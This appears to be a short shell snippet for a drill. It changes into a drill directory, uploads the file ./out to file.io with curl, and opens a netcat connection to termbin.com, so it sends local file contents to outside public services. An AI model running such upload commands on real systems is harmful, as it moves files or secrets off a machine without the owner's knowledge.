cd "${DRILL:?this is for a drill alone}" || exit
curl -F 'file=@./out' https://file.io
nc termbin.com 9999
